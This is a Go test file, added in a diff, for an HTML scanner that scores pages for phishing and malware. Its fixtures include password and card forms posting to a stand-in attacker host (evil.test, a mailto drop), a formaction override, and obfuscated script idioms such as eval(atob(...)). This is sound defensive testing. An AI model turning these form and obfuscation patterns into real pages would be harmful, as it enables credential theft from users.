@@ -0,0 +1,479 @@
+package scanner
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// testDetectors returns the built-in detectors for the default rules, keyed by
+// name, with example.com as the site's own domain
+func testDetectors(t *testing.T) map[string]Detector {
+	t.Helper()
+	rules := DefaultRules()
+	rules.AllowedDomains = []string{"example.com"}
+	detectors, err := rules.detectors()
+	if err != nil {
+		t.Fatalf("detectors() error = %v", err)
+	}
+
+	byName := make(map[string]Detector, len(detectors))
+	for _, d := range detectors {
+		byName[d.Name()] = d
+	}
+	return byName
+}
+
+func TestDetectors(t *testing.T) {
+	detectors := testDetectors(t)
+	hexPayload := strings.Repeat(`\x41`, 40)
+	longPayload := strings.Repeat("A", 200)
+
+	tests := []struct {
+		name     string
+		detector string
+		content  string
+		want     []Finding
+	}{
+		// credential_form
+		{
+			name:     "password form posting to another domain",
+			detector: "credential_form",
+			content:  `<form action="https://evil.test/login"><input type="password" name="p"></form>`,
+			want:     []Finding{{Category: CategoryPhishing, Score: 50, Detail: "password form posts to evil.test"}},
+		},
+		{
+			name:     "password form posting to this site",
+			detector: "credential_form",
+			content:  `<form action="/login"><input type="password" name="p"></form>`,
+		},
+		{
+			name:     "password form posting to an allowed subdomain",
+			detector: "credential_form",
+			content:  `<form action="https://login.example.com/"><input type="password"></form>`,
+		},
+		{
+			name:     "password form posting by email",
+			detector: "credential_form",
+			content:  `<form action="mailto:drop@evil.test"><input type="PASSWORD"></form>`,
+			want:     []Finding{{Category: CategoryPhishing, Score: 50, Detail: "password form posts to mailto:drop@evil.test"}},
+		},
+		{
+			name:     "button overriding the form action",
+			detector: "credential_form",
+			content:  `<form action="/login"><input type="password"><button formaction="https://evil.test/x">Go</button></form>`,
+			want:     []Finding{{Category: CategoryPhishing, Score: 50, Detail: "password form posts to evil.test"}},
+		},
+		{
+			name:     "card fields recognised by name, autocomplete and placeholder",
+			detector: "credential_form",
+			content: `<form action="https://evil.test/pay"><input name="card_number"></form>` +
+				`<form action="https://pay.evil.test/"><input autocomplete="cc-number"></form>` +
+				`<form action="https://evil.test/pay"><input placeholder="CVV"></form>`,
+			want: []Finding{{Category: CategoryPhishing, Score: 60, Detail: "payment card form posts to evil.test, pay.evil.test"}},
+		},
+		{
+			name:     "password and card in one form",
+			detector: "credential_form",
+			content:  `<form action="https://evil.test/"><input type="password"><input aria-label="Security code"></form>`,
+			want: []Finding{
+				{Category: CategoryPhishing, Score: 50, Detail: "password form posts to evil.test"},
+				{Category: CategoryPhishing, Score: 60, Detail: "payment card form posts to evil.test"},
+			},
+		},
+		{
+			name:     "form without credentials",
+			detector: "credential_form",
+			content:  `<form action="https://evil.test/"><input name="email"><textarea name="message"></textarea></form>`,
+		},
+
+		// brand_title
+		{
+			name:     "brand in the title",
+			detector: "brand_title",
+			content:  `<title>PayPal - Log in</title>`,
+			want:     []Finding{{Category: CategoryPhishing, Score: 25, Detail: `title "PayPal - Log in" names PayPal`}},
+		},
+		{
+			name:     "brands ignore case and are named once",
+			detector: "brand_title",
+			content:  `<title>Apple ID, iCloud and apple id</title>`,
+			want:     []Finding{{Category: CategoryPhishing, Score: 25, Detail: `title "Apple ID, iCloud and apple id" names Apple ID, iCloud, apple id`}},
+		},
+		{
+			name:     "brand inside another word",
+			detector: "brand_title",
+			content:  `<title>Upstairs</title>`,
+		},
+		{
+			name:     "brand outside the title",
+			detector: "brand_title",
+			content:  `<title>Notes</title><h1>PayPal</h1>`,
+		},
+
+		// obfuscated_script
+		{
+			name:     "eval of decoded code",
+			detector: "obfuscated_script",
+			content:  `<script>eval(atob("YWxlcnQoMSk="))</script>`,
+			want:     []Finding{{Category: CategoryMalware, Score: 50, Detail: `script contains "eval(atob("`}},
+		},
+		{
+			name:     "event handler",
+			detector: "obfuscated_script",
+			content:  `<img src="x" onerror="eval( unescape('%61'))">`,
+			want:     []Finding{{Category: CategoryMalware, Score: 50, Detail: `script contains "eval( unescape("`}},
+		},
+		{
+			name:     "javascript URL",
+			detector: "obfuscated_script",
+			content:  `<a href="javascript:document.write(atob('PGI+'))">x</a>`,
+			want:     []Finding{{Category: CategoryMalware, Score: 50, Detail: `script contains "document.write(atob("`}},
+		},
+		{
+			name:     "hex escaped payload",
+			detector: "obfuscated_script",
+			content:  `<script>var s = "` + hexPayload + `";</script>`,
+			want:     []Finding{{Category: CategoryMalware, Score: 50, Detail: fmt.Sprintf("script contains %q", hexPayload[:60]+"…")}},
+		},
+		{
+			name:     "long encoded payload",
+			detector: "obfuscated_script",
+			content:  `<script>var s = atob("` + longPayload + `");</script>`,
+			want:     []Finding{{Category: CategoryMalware, Score: 50, Detail: fmt.Sprintf("script contains %q", `atob("`+longPayload[:54]+"…")}},
+		},
+		{
+			name:     "short encoded string",
+			detector: "obfuscated_script",
+			content:  `<script>var s = atob("` + longPayload[:100] + `");</script>`,
+		},
+		{
+			name:     "ordinary script",
+			detector: "obfuscated_script",
+			content:  `<script>console.log(JSON.parse("{}"))</script>`,
+		},
+
+		// meta_refresh
+		{
+			name:     "redirect to another domain",
+			detector: "meta_refresh",
+			content:  `<meta http-equiv="Refresh" content="0; url=https://evil.test/">`,
+			want:     []Finding{{Category: CategoryPhishing, Score: 30, Detail: "meta refresh redirects to evil.test"}},
+		},
+		{
+			name:     "redirect to this site",
+			detector: "meta_refresh",
+			content:  `<meta http-equiv="refresh" content="0; url=/next"><meta http-equiv="refresh" content="0; url=https://www.example.com/">`,
+		},
+		{
+			name:     "refresh without a target",
+			detector: "meta_refresh",
+			content:  `<meta http-equiv="refresh" content="30">`,
+		},
+		{
+			name:     "other meta elements",
+			detector: "meta_refresh",
+			content:  `<meta name="refresh" content="0; url=https://evil.test/">`,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := detectors[tt.detector].Detect(Parse(tt.content))
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("%s.Detect() = %+v, want %+v", tt.detector, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestRefreshURL(t *testing.T) {
+	tests := []struct {
+		content string
+		want    string
+	}{
+		{"0; url=https://a.test/", "https://a.test/"},
+		{"0;URL=https://a.test/", "https://a.test/"},
+		{"5, url = 'https://a.test/'", "https://a.test/"},
+		{`1.5; url="https://a.test/x?y=1"`, "https://a.test/x?y=1"},
+		{"https://a.test/", "https://a.test/"},
+		{"  0;/relative", "/relative"},
+		{"10", ""},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.content, func(t *testing.T) {
+			match := refreshURL.FindStringSubmatch(tt.content)
+			if match == nil {
+				t.Fatalf("refreshURL did not match %q", tt.content)
+			}
+			if match[1] != tt.want {
+				t.Errorf("refreshURL target of %q = %q, want %q", tt.content, match[1], tt.want)
+			}
+		})
+	}
+}
+
+func TestDomainListForeign(t *testing.T) {
+	list := newDomainList([]string{"Example.com", " .trusted.test. ", ""})
+
+	tests := []struct {
+		url         string
+		wantHost    string
+		wantForeign bool
+	}{
+		{"https://example.com/login", "example.com", false},
+		{"https://EXAMPLE.com", "example.com", false},
+		{"https://login.example.com/", "login.example.com", false},
+		{"https://a.b.trusted.test/", "a.b.trusted.test", false},
+		{"https://notexample.com/", "notexample.com", true},
+		{"https://example.com.evil.test/", "example.com.evil.test", true},
+		{"http://evil.test:8080/x", "evil.test", true},
+		{"  https://evil.test/  ", "evil.test", true},
+		{"mailto:drop@evil.test", "mailto:drop@evil.test", true},
+		{"mailto:me@example.com", "mailto:me@example.com", true},
+		{"//evil.test/x", "evil.test", true},
+		{"//example.com/x", "example.com", false},
+		{"/login", "", false},
+		{"login.php?next=https://evil.test", "", false},
+		{"", "", false},
+		{"%zz", "", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.url, func(t *testing.T) {
+			host, foreign := list.foreign(tt.url)
+			if host != tt.wantHost || foreign != tt.wantForeign {
+				t.Errorf("foreign(%q) = %q, %v, want %q, %v", tt.url, host, foreign, tt.wantHost, tt.wantForeign)
+			}
+		})
+	}
+}
+
+func TestThresholdsVerdict(t *testing.T) {
+	defaults := DefaultRules().Thresholds
+
+	tests := []struct {
+		name       string
+		thresholds Thresholds
+		score      int
+		want       Verdict
+	}{
+		{"nothing found", defaults, 0, Allow},
+		{"below flag", defaults, 29, Allow},
+		{"at flag", defaults, 30, Flag},
+		{"below quarantine", defaults, 59, Flag},
+		{"at quarantine", defaults, 60, Quarantine},
+		{"below block", defaults, 99, Quarantine},
+		{"at block", defaults, 100, Block},
+		{"above block", defaults, 500, Block},
+		{"flag disabled", Thresholds{Flag: 0, Quarantine: 60, Block: 100}, 59, Allow},
+		{"block disabled", Thresholds{Flag: 30, Quarantine: 60, Block: 0}, 500, Quarantine},
+		{"all disabled", Thresholds{}, 500, Allow},
+		{"equal thresholds pick the most severe", Thresholds{Flag: 50, Quarantine: 50, Block: 50}, 50, Block},
+		{"out of order thresholds pick the most severe", Thresholds{Flag: 80, Quarantine: 50, Block: 100}, 90, Quarantine},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := tt.thresholds.verdict(tt.score); got != tt.want {
+				t.Errorf("%+v.verdict(%d) = %s, want %s", tt.thresholds, tt.score, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoadRules(t *testing.T) {
+	tests := []struct {
+		name    string
+		file    string
+		content string
+		want    func(r *Rules)
+		wantErr string
+	}{
+		{
+			name: "no file",
+		},
+		{
+			name: "empty YAML file",
+			file: "rules.yaml",
+			want: func(r *Rules) {},
+		},
+		{
+			name: "YAML keeps settings it does not mention",
+			file: "rules.yml",
+			content: "thresholds:\n  flag: 20\n" +
+				"allowed_domains: [example.com]\n" +
+				"meta_refresh:\n  score: 0\n" +
+				"brand_titles:\n  brands: [Acme]\n",
+			want: func(r *Rules) {
+				r.Thresholds.Flag = 20
+				r.AllowedDomains = []string{"example.com"}
+				r.MetaRefresh.Score = 0
+				r.BrandTitles.Brands = []string{"Acme"}
+			},
+		},
+		{
+			name:    "TOML keeps settings it does not mention",
+			file:    "rules.toml",
+			content: "[thresholds]\nquarantine = 70\n\n[obfuscated_scripts]\nmin_encoded_length = 0\n",
+			want: func(r *Rules) {
+				r.Thresholds.Quarantine = 70
+				r.ObfuscatedScripts.MinEncodedLength = 0
+			},
+		},
+		{
+			name:    "unknown YAML key",
+			file:    "rules.yaml",
+			content: "thresholds:\n  warn: 10\n",
+			wantErr: "failed to parse scanner rules",
+		},
+		{
+			name:    "unknown TOML key",
+			file:    "rules.toml",
+			content: "[meta_refresh]\nweight = 10\n",
+			wantErr: "failed to parse scanner rules",
+		},
+		{
+			name:    "invalid pattern",
+			file:    "rules.yaml",
+			content: "obfuscated_scripts:\n  patterns: [\"(\"]\n",
+			wantErr: "obfuscated_scripts.patterns",
+		},
+		{
+			name:    "invalid card field pattern",
+			file:    "rules.yaml",
+			content: "credential_forms:\n  card_fields: [\"[\"]\n",
+			wantErr: "credential_forms.card_fields",
+		},
+		{
+			name:    "negative threshold",
+			file:    "rules.yaml",
+			content: "thresholds:\n  block: -1\n",
+			wantErr: "thresholds must not be negative",
+		},
+		{
+			name:    "encoded length too long",
+			file:    "rules.yaml",
+			content: "obfuscated_scripts:\n  min_encoded_length: 1001\n",
+			wantErr: "min_encoded_length must be at most 1000",
+		},
+		{
+			name:    "unsupported format",
+			file:    "rules.json",
+			content: "{}",
+			wantErr: "must end in .yaml, .yml or .toml",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var path string
+			if tt.file != "" {
+				path = filepath.Join(t.TempDir(), tt.file)
+				if err := os.WriteFile(path, []byte(tt.content), 0o600); err != nil {
+					t.Fatal(err)
+				}
+			}
+
+			got, err := LoadRules(path)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("LoadRules() error = %v, want one containing %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("LoadRules() error = %v", err)
+			}
+
+			want := DefaultRules()
+			if tt.want != nil {
+				tt.want(want)
+			}
+			if !reflect.DeepEqual(got, want) {
+				t.Errorf("LoadRules() = %+v, want %+v", got, want)
+			}
+		})
+	}
+
+	if _, err := LoadRules(filepath.Join(t.TempDir(), "missing.yaml")); err == nil || !strings.Contains(err.Error(), "failed to read scanner rules") {
+		t.Errorf("LoadRules() of a missing file error = %v, want a read error", err)
+	}
+}
+
+func TestScan(t *testing.T) {
+	rules := DefaultRules()
+	rules.AllowedDomains = []string{"example.com"}
+	s, err := New(rules)
+	if err != nil {
+		t.Fatalf("New() error = %v", err)
+	}
+
+	tests := []struct {
+		name      string
+		content   string
+		wantScore int
+		want      Verdict
+		wantRules []string
+	}{
+		{
+			name:    "ordinary page",
+			content: `<html><head><title>Team lunch</title></head><body><p>Friday at noon</p></body></html>`,
+			want:    Allow,
+		},
+		{
+			name:    "sign-in form for this site",
+			content: `<title>Sign in</title><form action="https://example.com/login"><input type="password"></form>`,
+			want:    Allow,
+		},
+		{
+			name:      "brand title alone",
+			content:   `<title>My Netflix watchlist</title>`,
+			wantScore: 25,
+			want:      Allow,
+			wantRules: []string{"brand_title"},
+		},
+		{
+			name:      "redirect away",
+			content:   `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
+			wantScore: 30,
+			want:      Flag,
+			wantRules: []string{"meta_refresh"},
+		},
+		{
+			name:      "obfuscated script",
+			content:   `<script>eval(String.fromCharCode(97,108,101,114,116))</script>`,
+			wantScore: 50,
+			want:      Flag,
+			wantRules: []string{"obfuscated_script"},
+		},
+		{
+			name:      "branded password form",
+			content:   `<title>PayPal</title><form action="https://evil.test/"><input type="password"></form>`,
+			wantScore: 75,
+			want:      Quarantine,
+			wantRules: []string{"credential_form", "brand_title"},
+		},
+		{
+			name: "branded card and password form",
+			content: `<title>Amazon account</title><form action="https://evil.test/">` +
+				`<input type="password"><input name="cvv"></form>`,
+			wantScore: 135,
+			want:      Block,
+			wantRules: []string{"credential_form", "credential_form", "brand_title"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := s.Scan(tt.content)
+
+			var rules []string
+			for _, f := range result.Findings {
+				rules = append(rules, f.Rule)
+			}
+			if result.Score != tt.wantScore || result.Verdict != tt.want || !reflect.DeepEqual(rules, tt.wantRules) {
+				t.Errorf("Scan() = %d, %s, %v, want %d, %s, %v", result.Score, result.Verdict, rules, tt.wantScore, tt.want, tt.wantRules)
+			}
+		})
+	}
+}